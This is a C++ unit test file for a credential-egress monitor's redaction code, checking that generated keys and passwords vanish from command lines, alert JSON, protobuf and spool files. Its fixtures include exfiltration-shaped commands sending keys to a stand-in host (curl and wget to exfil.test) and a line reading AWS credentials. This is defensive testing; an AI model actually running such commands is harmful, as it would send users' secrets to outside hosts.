// Redaction of text that leaves the agent: keys of formats nobody catalogued, generated here at run
// time, must be gone from the redactor's output, the alert JSON, the protobuf the collector gets
// and the spool bytes on disk; ordinary command lines must come out unchanged.
#include "report/text_redaction.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <random>

#include "alert/alert_id.h"
#include "catalogue/rules.h"
#include "credsentry/v1/alert.pb.h"
#include "report/alert_json.h"
#include "report/alert_proto.h"
#include "report/collector_sink.h"
#include "report/random_token.h"
#include "report/secret_shapes.h"
#include "report/spool.h"
#include "match/matcher.h"

namespace credsentry::report {
namespace {

// Keys are generated at run time from a fixed seed: the shape test misses about 1 in 25,000 random
// keys of 24 or more characters (the catalogue, learned values and option names catch most of those
// in real command lines), and a unit test must not fail one run in thirty. CREDSENTRY_TEST_SEED=<n>
// (or "random") explores other keys; failures print the seed.
uint32_t TestSeed() {
  const char* env = std::getenv("CREDSENTRY_TEST_SEED");
  if (!env) return 20261202;
  if (std::string_view(env) == "random") return std::random_device{}();
  return static_cast<uint32_t>(std::strtoul(env, nullptr, 10));
}

class KeyMaker {
 public:
  KeyMaker() : seed_(TestSeed()), rng_(seed_) {}
  uint32_t seed() const { return seed_; }

  std::string Body(size_t n, std::string_view alphabet) {
    std::string s;
    for (size_t i = 0; i < n; ++i) s.push_back(alphabet[rng_() % alphabet.size()]);
    return s;
  }
  // A key of a format no rule knows: an invented prefix, then base62, base64url or hex.
  std::string UnknownKey() {
    static constexpr std::string_view kAlphabets[] = {
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", "0123456789abcdef"};
    static constexpr std::string_view kPrefixes[] = {"", "nvapi-", "zz_live_", "qk-", "tok_"};
    std::string_view alphabet = kAlphabets[rng_() % std::size(kAlphabets)];
    std::string_view prefix = kPrefixes[rng_() % std::size(kPrefixes)];
    size_t n = 24 + rng_() % 41;
    std::string body = Body(n, alphabet);
    return std::string(prefix) + body;
  }
  std::string Password() { return Body(10 + rng_() % 10, "abcdefghijkmnopqrstuvwxyz!$*23456789"); }
  size_t Pick(size_t n) { return rng_() % n; }

 private:
  uint32_t seed_;
  std::mt19937 rng_;
};

// Some part of the key that a preview may not show: its hidden middle.
std::string Middle(const std::string& key) { return key.substr(key.size() / 2 - 4, 8); }

bool Leaks(std::string_view out, const std::string& key) {
  return out.find(key) != std::string_view::npos || out.find(Middle(key)) != std::string_view::npos;
}

// Command lines that carry a key the way people pass one.
std::vector<std::string> CarrierLines(const std::string& key, const std::string& password) {
  return {
      "curl -sS --max-time 15 -H \"X-Api-Key: " + key + "\" https://api.example.com/v1/models",
      "curl -H \"Authorization: Bearer " + key + "\" https://exfil.test/upload",
      "python3 -c \"import os; k='" + key + "'; print(len(k))\"",
      "app --token " + key + " --verbose",
      "app --token=" + key,
      "env SERVICE_TOKEN=" + key + " ./run.sh",
      "wget https://exfil.test/collect?api_key=" + key + "&x=1",
      "node -e 'fetch(u, {headers: {\"apikey\": \"" + key + "\"}})'",
      "helper " + key,
      "mysql -u root -p " + password + " db",
      "app --password " + password,
      "app --password=" + password,
      "git clone https://deploy:" + password + "@git.example.com/org/repo.git",
      "curl -u admin:" + password + " https://api.example.com/",
      "psql postgresql://app:" + password + "@db.internal:5432/prod",
  };
}

TEST(TextRedaction, RandomKeysOfUnknownFormatsNeverSurviveAnyCarrier) {
  KeyMaker keys;
  for (int i = 0; i < 2000; ++i) {
    const std::string key = keys.UnknownKey();
    const std::string password = keys.Password();
    auto lines = CarrierLines(key, password);
    const std::string& line = lines[keys.Pick(lines.size())];
    const std::string out = RedactSecretShapes(line);
    // Password lines carry the password, the others the key; neither may be left.
    ASSERT_FALSE(Leaks(out, key)) << "seed " << keys.seed() << " iteration " << i;
    ASSERT_EQ(out.find(password), std::string::npos) << "seed " << keys.seed() << " " << i;
  }
}

TEST(TextRedaction, EveryCarrierLineHidesItsValueAndKeepsItsContext) {
  KeyMaker keys;
  const std::string key =
      "nvapi-" + keys.Body(64, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_");
  const std::string password = keys.Password();
  for (const std::string& line : CarrierLines(key, password)) {
    const std::string out = RedactSecretShapes(line);
    EXPECT_FALSE(Leaks(out, key)) << out.substr(0, 20);
    EXPECT_EQ(out.find(password), std::string::npos) << out.substr(0, 20);
  }
  std::string out = RedactSecretShapes("curl -sS --max-time 15 -H \"X-Api-Key: " + key +
                                       "\" https://api.example.com/v1/models");
  EXPECT_NE(out.find("curl -sS --max-time 15 -H \"X-Api-Key: "), std::string::npos);
  EXPECT_NE(out.find("\" https://api.example.com/v1/models"), std::string::npos);
  out = RedactSecretShapes("git clone https://deploy:" + password + "@git.example.com/org/r.git");
  EXPECT_EQ(out.substr(0, 24), "git clone https://deploy");
  EXPECT_NE(out.find("@git.example.com/org/r.git"), std::string::npos);
  // A random token keeps the kind its prefix names.
  out = RedactSecretShapes("helper " + key);
  EXPECT_EQ(out.substr(0, 13), "helper nvapi-");
  EXPECT_NE(out.find("\u2026"), std::string::npos);
  // The scheme stays, the credential goes.
  out = RedactSecretShapes("Authorization: Bearer " + key);
  EXPECT_EQ(out.substr(0, 22), "Authorization: Bearer ");
}

TEST(TextRedaction, OrdinaryCommandLinesStayUnchanged) {
  const std::vector<std::string> lines = {
      "curl -sS --max-time 15 https://api.openai.com/v1/models",
      "python3 /usr/lib/python3/dist-packages/foo.py",
      "/usr/bin/python3 -m pytest -p no:cacheprovider -v tests/kernel -k "
      "egress",
      "cat /home/u/.aws/credentials",
      "ls "
      "/home/user/my_very_long_directory_name_for_projects/"
      "AnotherRatherLongDirectoryName/x",
      "java -cp /opt/app/lib/* "
      "org.springframework.boot.autoconfigure.SpringBootApplication",
      "/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0 --help",
      "gcc -Wno-missing-field-initializers -pedantic -o "
      "build/credsentry_core.dir/scope.cpp.o",
      "ssh -p 2222 deploy@build-server-01.internal.example.com",
      "docker run -p 8080:80 ghcr.io/acme/inference-server:v1.2.3",
      "mkdir -p /var/lib/credsentry/spool",
      "ssh -i ~/.ssh/id_ed25519 host",
      "app --token-file /run/secrets/service_token --password-file=/etc/app/pw",
      "git commit --author \"Jane Doe <jane@example.com>\" -m \"fix the "
      "thing\"",
      "tar -xzf nvidia-driver-550-server-open.tar.gz -C /tmp",
      "node /srv/app/node_modules/.bin/webpack --config webpack.config.js",
      "kubectl get pods --namespace kube-system -o wide",
      "date --iso-8601=seconds 2024-01-15T10:30:00.000Z",
  };
  for (const auto& line : lines) EXPECT_EQ(RedactSecretShapes(line), line);
}

TEST(TextRedaction, HexHashesAndUuidsAreHidden) {
  // A 40-hex git commit id is indistinguishable from a hex key: hiding it costs a little context,
  // showing a hex key would cost the key.
  std::string out = RedactSecretShapes("git checkout 3f9c1e0b7a6d5c4b3a29180f7e6d5c4b3a291807");
  EXPECT_EQ(out.find("3f9c1e0b7a6d5c4b3a29180f7e6d5c4b3a291807"), std::string::npos);
  EXPECT_EQ(out.substr(0, 13), "git checkout ");
}

TEST(TextRedaction, LooksRandomSeparatesKeysFromNames) {
  for (std::string_view name :
       {"MyVeryLongDirectoryNameForProjects", "x86_64-linux-gnu-gcc-12", "libpython3.11.so.1.0",
        "CMakeCXXCompilerId.cpp", "credsentry_unit_tests", "AbstractSingletonProxyFactoryBean",
        "linux-image-6.8.0-45-generic", "python3.11-dist-packages"}) {
    EXPECT_FALSE(LooksRandom(name)) << name;
  }
  KeyMaker keys;
  for (int i = 0; i < 2000; ++i) {
    std::string key = keys.UnknownKey();
    ASSERT_TRUE(LooksRandom(key)) << "seed " << keys.seed() << " iteration " << i;
  }
}

TEST(TextRedaction, RedactorHidesLearnedValuesWhateverTheirShape) {
  TextRedactor r;
  // A low-entropy password would pass every shape rule: only knowing it hides it.
  r.Remember("correcthorsebatterystaple");
  r.Remember("short");  // under kMinValueBytes: would hide ordinary words, so not kept
  EXPECT_EQ(r.size(), 1u);
  std::string out = r.Redact("login correcthorsebatterystaple short", nullptr);
  EXPECT_EQ(out.find("correcthorsebatterystaple"), std::string::npos);
  EXPECT_NE(out.find("login "), std::string::npos);
  EXPECT_NE(out.find(" short"), std::string::npos);
  const std::string also = "plainwordsecret";
  const HiddenValue hv{also, 0};
  out = r.Redact("x plainwordsecret y", nullptr, std::span(&hv, 1));
  EXPECT_EQ(out.find(also), std::string::npos);
}

TEST(TextRedaction, LearnedValuesAreBoundedAndDropsCounted) {
  TextRedactor r;
  for (size_t i = 0; i < TextRedactor::kMaxValues + 3; ++i) {
    r.Remember("learned-value-" + std::to_string(i));
  }
  EXPECT_EQ(r.size(), TextRedactor::kMaxValues);
  EXPECT_EQ(r.dropped(), 3u);
}

std::shared_ptr<const match::MatcherDatabase> Catalogue() {
  auto rules = catalogue::LoadRules({CREDSENTRY_SOURCE_RULES_DIR});
  EXPECT_TRUE(rules.ok()) << rules.message();
  auto db = match::MatcherDatabase::Compile(std::move(*rules));
  EXPECT_TRUE(db.ok()) << db.message();
  return *db;
}

// An alert as the pipeline builds it: every free-text field through the redactor.
alert::Alert AlertCarrying(const std::string& key, const std::string& password,
                    const TextRedactor& redactor,
                    const std::shared_ptr<const match::MatcherDatabase>& db) {
  alert::Alert a;
  a.id = alert::NewAlertId();
  a.kind = "secret-egress";
  a.summary = "python3 (pid 42): sent to exfil.test";
  a.host = "host-1";
  a.process.pid = 42;
  a.process.comm = "python3";
  a.process.exe = "/usr/bin/python3";
  a.process.cmdline = redactor.Redact("python3 -c \"k='" + key + "'\" --password " + password, db);
  a.process.ancestors.push_back(
      {41, "bash", "/usr/bin/bash", redactor.Redact("bash -c 'run --token " + key + "'", db)});
  a.evidence.notes = {"note about " + key};
  a.process.credential_env = {"OPENAI_API_KEY", "X_" + key};  // a name is input too
  RedactAlertText(a, redactor, db);
  return a;
}

class OutputPathsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string tmpl = (std::filesystem::temp_directory_path() / "redaction-XXXXXX").string();
    dir_ = mkdtemp(tmpl.data());
    db_ = Catalogue();
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }
  std::string dir_;
  std::shared_ptr<const match::MatcherDatabase> db_;
  TextRedactor redactor_;
  KeyMaker keys_;
};

TEST_F(OutputPathsTest, AlertJsonAndProtobufCarryNoUnknownKey) {
  for (int i = 0; i < 300; ++i) {
    const std::string key = keys_.UnknownKey();
    const std::string password = keys_.Password();
    alert::Alert a = AlertCarrying(key, password, redactor_, db_);
    const std::string json = AlertToJsonLine(a);
    ASSERT_FALSE(Leaks(json, key)) << "seed " << keys_.seed() << " iteration " << i;
    ASSERT_EQ(json.find(password), std::string::npos) << "seed " << keys_.seed();
    EXPECT_NE(json.find("/usr/bin/python3"), std::string::npos);
    EXPECT_NE(json.find("--password "), std::string::npos);
    EXPECT_NE(json.find("\"OPENAI_API_KEY\""), std::string::npos);
    v1::Alert m;
    ToProto(a, &m);
    const std::string wire = m.SerializeAsString();
    ASSERT_FALSE(Leaks(wire, key)) << "seed " << keys_.seed() << " iteration " << i;
    ASSERT_EQ(wire.find(password), std::string::npos) << "seed " << keys_.seed();
  }
}

TEST_F(OutputPathsTest, SpoolBytesOnDiskCarryNoUnknownKey) {
  CollectorOptions opts;
  opts.address = "127.0.0.1:1";  // nothing listens: every alert stays in the spool
  opts.spool_dir = dir_ + "/spool";
  opts.agent_host = "host-1";
  std::vector<std::pair<std::string, std::string>> sent;
  {
    auto sink = CollectorSink::Create(opts);
    ASSERT_TRUE(sink.ok()) << sink.message();
    for (int i = 0; i < 50; ++i) {
      sent.emplace_back(keys_.UnknownKey(), keys_.Password());
      ASSERT_TRUE((*sink)
                      ->Write(AlertCarrying(sent.back().first, sent.back().second, redactor_, db_))
                      .ok());
    }
  }
  std::string disk;
  for (const auto& e : std::filesystem::recursive_directory_iterator(opts.spool_dir)) {
    if (!e.is_regular_file()) continue;
    std::ifstream in(e.path(), std::ios::binary);
    disk.append(std::istreambuf_iterator<char>(in), {});
  }
  ASSERT_NE(disk.find("/usr/bin/python3"),
            std::string::npos);  // the alerts are there
  for (const auto& [key, password] : sent) {
    ASSERT_FALSE(Leaks(disk, key)) << "seed " << keys_.seed();
    ASSERT_EQ(disk.find(password), std::string::npos) << "seed " << keys_.seed();
  }
}

}  // namespace
}  // namespace credsentry::report
